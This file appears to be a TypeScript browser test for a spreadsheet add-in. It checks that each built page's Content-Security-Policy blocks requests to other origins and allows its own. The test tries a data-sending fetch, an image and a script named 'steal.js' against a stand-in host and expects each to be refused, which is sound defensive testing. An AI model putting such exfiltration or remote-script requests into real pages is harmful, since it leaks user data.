/**
 * Nothing leaves the machine, as a guarantee of the pages themselves: each built page carries a
 * Content-Security-Policy that lets scripts and connections come from its own origin only (and office.js's
 * origin on the Excel pane). In Chromium, a request from the page to another origin is blocked by the policy
 * before it reaches the network; one to the page's own origin still goes through.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { builtPane } from '../helpers/built-pane';
import { hasChromium, launch, ORIGIN, servePage } from '../helpers/browser';

const run = hasChromium() ? describe : describe.skip;
const policyOf = (html: string) => /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? null;

/** In the page: a fetch, an image and a script from another origin, and a fetch of the page's own origin. */
const TRY_TO_LEAVE = async () => {
  const violations: string[] = [];
  document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  let fetched = 'sent';
  try {
    await fetch('http://elsewhere.example/collect?cell=H6');
  } catch (e) {
    fetched = `refused: ${(e as Error).name}`;
  }
  const img = new Image();
  await new Promise((done) => {
    img.onerror = done;
    img.onload = done;
    img.src = 'http://elsewhere.example/pixel.png';
  });
  const script = document.createElement('script');
  await new Promise((done) => {
    script.onerror = done;
    script.onload = done;
    script.src = 'http://elsewhere.example/steal.js';
    document.head.append(script);
  });
  const own = (await fetch('/index.html')).status;
  // violation events are queued as tasks: wait for the three
  for (let i = 0; violations.length < 3 && i < 1000; i++) await new Promise((r) => setTimeout(r, 0));
  return { violations: violations.sort(), fetched, own };
};

run('the Content-Security-Policy of the built pages', () => {
  let browser: Browser;
  let dir: string;
  beforeAll(async () => {
    dir = await builtPane();
    browser = await launch();
  });
  afterAll(() => browser?.close());

  test.each(['index.html', 'taskpane.html'])('%s: a request to another origin is blocked by the policy; its own origin is not', async (name) => {
    const served = await servePage(browser, dir);
    try {
      await served.page.goto(`${ORIGIN}/${name}`);
      const result = await served.page.evaluate(TRY_TO_LEAVE);
      expect(result.fetched).toBe('refused: TypeError');
      expect(result.own).toBe(200);
      expect(result.violations).toEqual([
        'connect-src http://elsewhere.example/collect?cell=H6',
        'img-src http://elsewhere.example/pixel.png',
        'script-src-elem http://elsewhere.example/steal.js',
      ]);
      // blocked in the page, before the network: the test's own router never saw them
      expect(served.external.filter((u) => u.includes('elsewhere.example'))).toEqual([]);
    } finally {
      await served.context.close();
    }
  });

  test('the policies: own origin only, office.js’s origin where office.js comes from Microsoft, no eval', () => {
    // The shared build serves office.js itself (the intranet build): every page is own-origin only.
    const index = policyOf(readFileSync(join(dir, 'index.html'), 'utf8'))!;
    const pane = policyOf(readFileSync(join(dir, 'taskpane.html'), 'utf8'))!;
    const commands = policyOf(readFileSync(join(dir, 'commands.html'), 'utf8'))!;
    expect(index).toContain("script-src 'self';");
    expect(index).toContain("connect-src 'self';");
    expect(pane).toBe(index);
    expect(commands).toBe(index);
    // The default build loads office.js from Microsoft's CDN: the pages that load it allow that origin, no other.
    const saved = process.env.OFFICE_JS;
    delete process.env.OFFICE_JS;
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const config = require(join(__dirname, '..', '..', 'webpack.config.js'))({}, { mode: 'production' });
    if (saved !== undefined) process.env.OFFICE_JS = saved;
    const cspOf = (file: string): string => config.plugins.find((p: { userOptions?: { filename?: string } }) => p.userOptions?.filename === file).userOptions.csp;
    expect(cspOf('taskpane.html')).toContain("script-src 'self' https://appsforoffice.microsoft.com;");
    expect(cspOf('taskpane.html')).toContain("connect-src 'self' https://appsforoffice.microsoft.com;");
    expect(cspOf('commands.html')).toBe(cspOf('taskpane.html'));
    expect(cspOf('index.html')).toBe(index);
    for (const policy of [index, pane, cspOf('taskpane.html')]) expect(policy).not.toMatch(/unsafe-eval|\*/);
  });

  test('the WPS add-in’s pages carry the own-origin policy too', async () => {
    // builds the WPS package first when needed
    const wps = await builtPane('wps');
    const folder = readdirSync(wps).find((n) => n.startsWith('jixiao_'))!;
    for (const page of ['index.html', 'pane.html']) {
      const policy = policyOf(readFileSync(join(wps, folder, page), 'utf8'));
      expect([page, policy]).toEqual([page, expect.stringContaining("script-src 'self'; connect-src 'self';")]);
    }
  });
});
